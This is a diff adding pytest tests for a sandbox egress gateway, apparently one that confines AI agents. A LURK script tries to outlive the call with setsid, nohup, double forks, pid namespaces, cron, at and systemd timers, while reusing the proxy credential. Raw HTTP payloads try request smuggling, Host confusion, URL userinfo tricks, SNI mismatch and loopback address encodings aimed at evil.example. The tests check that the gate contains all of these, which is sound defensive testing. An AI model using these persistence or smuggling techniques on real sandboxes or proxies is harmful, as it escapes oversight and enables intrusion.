@@ -8,14 +8,23 @@ limits one process meets) is not repeated here.
 
 from __future__ import annotations
 
+import asyncio
+import contextlib
+import json
 import secrets
 import socket
+from collections.abc import AsyncIterator
+from dataclasses import replace
 from pathlib import Path
 
 import aiohttp
+import pytest
 
-from ..helpers import running
+from gatekeeper.app import Gatekeeper
+
+from ..helpers import poll_until, running
 from .conftest import Agent, Outside, runner_config
+from .test_live_fire import _running_with
 
 # Ways out that are not TCP to the gate, tried from inside. Each line: "contained NAME detail" or
 # "ESCAPED NAME detail". argv[1]: an abstract unix socket the host listens on.
@@ -164,3 +173,231 @@ async def test_scratch_space_is_bounded(tmp_path: Path, outside: Outside) -> Non
     lines = result["stdout"].splitlines()
     assert len(lines) == 5 and all(line.startswith("contained") for line in lines), result
     assert all(int(line.split()[2]) <= 16 for line in lines), lines
+
+
+# Every way to leave something running after the call: each survivor keeps trying the gate with
+# the call's credential and appends what it got to a workspace file.
+LURK = r"""
+import os, subprocess, sys, time
+marker = sys.argv[1]
+loop = (
+    "import base64, os, socket, time\n"
+    "proxy = os.environ['HTTPS_PROXY']\n"
+    "token = proxy.split('@')[0].rsplit(':', 1)[1]\n"
+    "auth = base64.b64encode(('gatekeeper:' + token).encode()).decode()\n"
+    "while True:\n"
+    "    try:\n"
+    "        s = socket.create_connection(('127.0.0.1', 3128), 1)\n"
+    "        head = 'CONNECT pypi.org:443 HTTP/1.1\\r\\nProxy-Authorization: Basic ' + auth\n"
+    "        s.sendall((head + '\\r\\n\\r\\n').encode())\n"
+    "        status = s.recv(100).split(b'\\r\\n')[0].decode()\n"
+    "    except OSError as exc:\n"
+    "        status = type(exc).__name__\n"
+    "    open('/workspace/lurk.log', 'a').write(f'{WHO} {status}\\n')\n"
+    "    time.sleep(0.2)\n"
+)
+def start(who, argv_prefix=()):
+    code = loop.replace("{WHO}", who)
+    subprocess.Popen([*argv_prefix, "python3", "-c", code, marker],
+                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+                     start_new_session=True)
+start("setsid", ("setsid",))
+start("nohup", ("nohup",))
+start("nested-pidns", ("unshare", "-Urpf", "--mount-proc"))
+# A double fork: the grandchild is reparented to the sandbox's init.
+if os.fork() == 0:
+    if os.fork() == 0:
+        os.setsid()
+        os.execvp("python3", ["python3", "-c", loop.replace("{WHO}", "double-fork"), marker])
+    os._exit(0)
+os.wait()
+for cmd in ("echo touch /workspace/at-ran | at now + 1 minute",
+            "(crontab -l; echo '* * * * * touch /workspace/cron-ran') | crontab -",
+            "systemd-run --user --on-active=5 touch /workspace/systemd-ran"):
+    p = subprocess.run(["sh", "-c", cmd], capture_output=True, text=True)
+    print("scheduler", cmd.split()[0] if "crontab" not in cmd else "crontab", p.returncode)
+time.sleep(1.5)
+"""
+
+
+async def test_nothing_outlives_the_call(agent: Agent, contained: Gatekeeper) -> None:
+    """setsid, nohup, a double fork and a nested pid namespace all end with the call (its pid
+    namespace's init ends), and so does their credential; at, cron and systemd timers are not
+    there to ask."""
+    marker = f"gk-lurk-{secrets.token_hex(4)}"
+    workspace = Path(str(contained.config.runner.workspace))
+    await agent.plant("lurk.py", LURK)
+    result = await agent.sh(f"python3 lurk.py {marker}")
+    assert result["timed_out"] is False, result
+    assert "scheduler" in result["stdout"] and " 0" not in result["stdout"], result
+    during = (workspace / "lurk.log").read_text().splitlines()
+    assert {line.split()[0] for line in during} == {"setsid", "nohup", "nested-pidns", "double-fork"}
+    assert all(line.endswith("200 Connection established") for line in during), during
+    await poll_until(lambda: not _running_with(marker), every=0.1, what="the survivors to go")
+    await asyncio.sleep(1.0)  # a survivor would have written again by now
+    assert (workspace / "lurk.log").read_text().splitlines() == during
+    assert len(contained.credentials) == 0
+    assert not [p for p in ("at-ran", "cron-ran", "systemd-ran") if (workspace / p).exists()]
+
+
+# --- the egress gate, spoken to raw from inside --------------------------------------------------
+
+# Sends each case's bytes to the gate ({AUTH}: this call's credential) and prints its name and the
+# first line it got back; "tls:NAME" cases CONNECT, then shake hands with SNI NAME through it.
+RAW = r"""
+import base64, json, os, socket, ssl, sys
+proxy = os.environ["HTTPS_PROXY"]
+token = proxy.split("@")[0].rsplit(":", 1)[1]
+auth = "Basic " + base64.b64encode(f"gatekeeper:{token}".encode()).decode()
+for name, text, inner in json.load(open(sys.argv[1])):
+    s = socket.create_connection(("127.0.0.1", 3128), 5)
+    s.settimeout(5)
+    s.sendall(text.replace("{AUTH}", auth).encode())
+    try:
+        got = s.recv(65536)
+        if inner is not None and got.startswith(b"HTTP/1.1 200"):
+            if inner.startswith("tls:"):
+                ctx = ssl.create_default_context(cafile="/workspace/pypi-ca.txt")
+                ctx.check_hostname = False
+                with ctx.wrap_socket(s, server_hostname=inner[4:]) as t:
+                    t.sendall(b"GET / HTTP/1.1\r\nHost: " + inner[4:].encode() + b"\r\n\r\n")
+                    got = t.recv(65536)
+            else:
+                s.sendall(inner.encode())
+                got = s.recv(65536)
+        line = got.split(b"\r\n")[0].decode(errors="replace") or "closed"
+    except (OSError, ssl.SSLError) as exc:
+        line = f"error {type(exc).__name__}"
+    print(name, "|", line)
+"""
+
+MIRROR = "GET http://mirror.test/{path} HTTP/1.1\r\nProxy-Authorization: {{AUTH}}\r\n{headers}\r\n"
+
+
+def _raw_cases(evil_port: int) -> list[tuple[str, str, str | None]]:
+    connect = "CONNECT {0} HTTP/1.1\r\nProxy-Authorization: {{AUTH}}\r\n\r\n"
+    return [
+        ("host-header", MIRROR.format(path="host", headers="Host: evil.example\r\n"), None),
+        ("two-hosts", MIRROR.format(path="two", headers="Host: mirror.test\r\nHost: evil.example\r\n"), None),
+        ("http10", "GET http://mirror.test/h10 HTTP/1.0\r\nProxy-Authorization: {AUTH}\r\n\r\n", None),
+        (
+            "pipelined",
+            MIRROR.format(path="first", headers="")
+            + "GET http://evil.example/second HTTP/1.1\r\nHost: evil.example\r\n"
+            "Proxy-Authorization: {AUTH}\r\n\r\n" + MIRROR.format(path="third", headers=""),
+            None,
+        ),
+        (
+            "body-smuggle",
+            "POST http://mirror.test/body HTTP/1.1\r\nProxy-Authorization: {AUTH}\r\n"
+            "Content-Length: 5\r\n\r\n"
+            "helloGET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n",
+            None,
+        ),
+        (
+            "userinfo",
+            "GET http://mirror.test:80@evil.example/ HTTP/1.1\r\nProxy-Authorization: {AUTH}\r\n\r\n",
+            None,
+        ),
+        (
+            "fragment",
+            "GET http://evil.example#@mirror.test/ HTTP/1.1\r\nProxy-Authorization: {AUTH}\r\n\r\n",
+            None,
+        ),
+        # A tunnel to an allowed host, then a request or a TLS name for another host.
+        (
+            "tunnel-host",
+            connect.format("mirror.test:80"),
+            "GET /tunnel HTTP/1.1\r\nHost: evil.example\r\n\r\n",
+        ),
+        ("tunnel-sni", connect.format("pypi.org:443"), "tls:evil.example"),
+        *[
+            (f"literal {host}", connect.format(f"{host}:{evil_port}"), None)
+            for host in (
+                "[::ffff:7f00:1]",
+                "[::ffff:127.0.0.1]",
+                "[64:ff9b::7f00:1]",
+                "[::127.0.0.1]",
+                "127.1",
+                "2130706433",
+                "localhost",
+                "[::1]",
+                "[::]",
+                "0",
+            )
+        ],
+    ]
+
+
+class Recorder:
+    """A plain-HTTP outside host that keeps every byte each connection sent it."""
+
+    def __init__(self) -> None:
+        self.seen: list[bytes] = []
+        self.port = 0
+        self.server: asyncio.Server | None = None
+
+    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        data = b""
+        try:
+            while b"\r\n\r\n" not in data:
+                chunk = await asyncio.wait_for(reader.read(65536), 5)
+                if not chunk:
+                    break
+                data += chunk
+            with contextlib.suppress(TimeoutError):  # whatever else comes: smuggled bytes, say
+                while chunk := await asyncio.wait_for(reader.read(65536), 0.3):
+                    data += chunk
+            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n")
+            await writer.drain()
+        finally:
+            self.seen.append(data)
+            writer.close()
+
+
+@pytest.fixture
+async def recorder() -> AsyncIterator[Recorder]:
+    rec = Recorder()
+    rec.server = await asyncio.start_server(rec.handle, "127.0.0.1", 0)
+    rec.port = rec.server.sockets[0].getsockname()[1]
+    try:
+        yield rec
+    finally:
+        rec.server.close()
+
+
+async def test_the_gate_forwards_only_what_it_decided(
+    tmp_path: Path, outside: Outside, recorder: Recorder
+) -> None:
+    """Plain HTTP reaches the allowed host with its own name as Host, one request, its body by
+    Content-Length and no credential; a tunnel carries only the name it was opened for (a
+    request's Host, a TLS ServerName: on a CDN's address another name is another site)."""
+    config = runner_config(tmp_path, outside)
+    pins = {**config.egress.pin, "mirror.test:80": ("127.0.0.1", recorder.port)}
+    config = replace(config, egress=replace(config.egress, pin=pins))
+    async with running(config) as gk, aiohttp.ClientSession() as http:
+        agent = Agent(gk, http)
+        await agent.plant("raw.py", RAW)
+        await agent.plant("cases.json", json.dumps(_raw_cases(outside.evil.port)))
+        result = await agent.sh("python3 raw.py cases.json")
+    got = dict(line.split(" | ", 1) for line in result["stdout"].splitlines())
+    assert len(got) == len(_raw_cases(0)), result
+    for name in ("host-header", "two-hosts", "http10", "pipelined", "body-smuggle"):
+        assert got.pop(name) == "HTTP/1.1 200 OK", (name, got)
+    assert got.pop("userinfo").startswith("HTTP/1.1 400"), got
+    assert got.pop("fragment").startswith("HTTP/1.1 403"), got
+    assert got.pop("tunnel-host").startswith("HTTP/1.1 403"), got
+    assert got.pop("tunnel-sni").startswith("error"), got
+    assert all(line.startswith("HTTP/1.1 403") for line in got.values()), got
+    sent = [seen for seen in recorder.seen if seen]  # the refused tunnel was connected, then closed
+    paths = sorted(seen.split(b" ")[1].decode() for seen in sent)
+    assert paths == ["/body", "/first", "/h10", "/host", "/two"], recorder.seen
+    for seen in sent:
+        head, _, body = seen.partition(b"\r\n\r\n")
+        assert [h for h in head.lower().split(b"\r\n") if h.startswith(b"host:")] == [b"host: mirror.test"], (
+            seen
+        )
+        assert b"evil" not in seen and b"smuggled" not in seen and b"roxy-" not in seen, seen
+        assert body in (b"", b"hello"), seen
+    assert outside.evil.connections == 0
+    assert outside.pypi_hits == []
